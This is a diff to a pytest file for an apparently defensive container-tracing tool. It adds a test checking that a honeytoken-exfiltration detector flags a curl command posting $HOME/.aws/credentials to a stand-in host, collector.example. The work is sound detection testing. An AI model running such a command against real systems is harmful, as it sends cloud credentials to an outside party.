@@ -7,7 +7,7 @@ import tarfile
 
 import pytest
 
-from pytest_ato.model.events import Exec, Start
+from pytest_ato.model.events import Exec, Start, Tls
 
 pytestmark = pytest.mark.privileged
 
@@ -104,6 +104,14 @@ def test_an_entry_point_that_sends_a_honeytoken_is_rejected(image, shell, ato_tr
     trace = ato_trace(image([shell], **bash(text)))
     assert "honeytoken_exfil" in {finding.detector for finding in trace.findings}
     assert trace.verdict == "REJECT"
+
+
+def test_what_an_image_says_in_tls_is_read_in_its_own_library(image, curl, ato_trace):
+    text = "curl -sS -d @$HOME/.aws/credentials https://collector.example/ >/dev/null; echo $?"
+    trace = ato_trace(image([curl], **bash(text)))
+    assert (trace.stdout, trace.stderr) == (b"0\n", b""), "the sinkhole's authority is trusted"
+    assert "honeytoken_exfil" in {finding.detector for finding in trace.findings}
+    assert any(isinstance(event, Tls) for event in trace.events), "no file of the host's is mapped"
 
 
 ATTACK = """
